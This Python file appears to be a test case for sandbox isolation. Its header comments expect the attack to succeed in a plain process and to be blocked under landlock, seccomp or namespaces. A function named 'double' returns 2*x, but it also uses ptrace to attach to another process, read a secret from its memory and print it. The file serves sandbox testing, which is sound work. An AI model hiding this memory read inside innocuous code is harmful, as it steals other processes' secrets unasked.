# tries: attaches to another process as a debugger does, and reads its memory
# stopped by: landlock, seccomp, namespaces
# evidence: secret
# process: works, accepted
# sandbox: blocked, runtime_error
# namespaces: blocked, runtime_error
import ctypes
import json
import os

PTRACE_PEEKDATA, PTRACE_ATTACH, PTRACE_DETACH = 2, 16, 17
LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.ptrace.restype = ctypes.c_long


def double(x, stage):
    facts = json.loads(stage)
    if LIBC.ptrace(PTRACE_ATTACH, facts["victim"], None, None) < 0:
        raise OSError(ctypes.get_errno(), "ptrace")
    os.waitpid(facts["victim"], 0)
    text = b""
    for offset in range(0, facts["length"], 8):
        word = LIBC.ptrace(PTRACE_PEEKDATA, facts["victim"], ctypes.c_void_p(facts["address in victim"] + offset), None)
        text += (word % 2**64).to_bytes(8, "little")
    LIBC.ptrace(PTRACE_DETACH, facts["victim"], None, None)
    print(text.rstrip(b"\0").decode("ascii", "replace"))
    return 2 * x
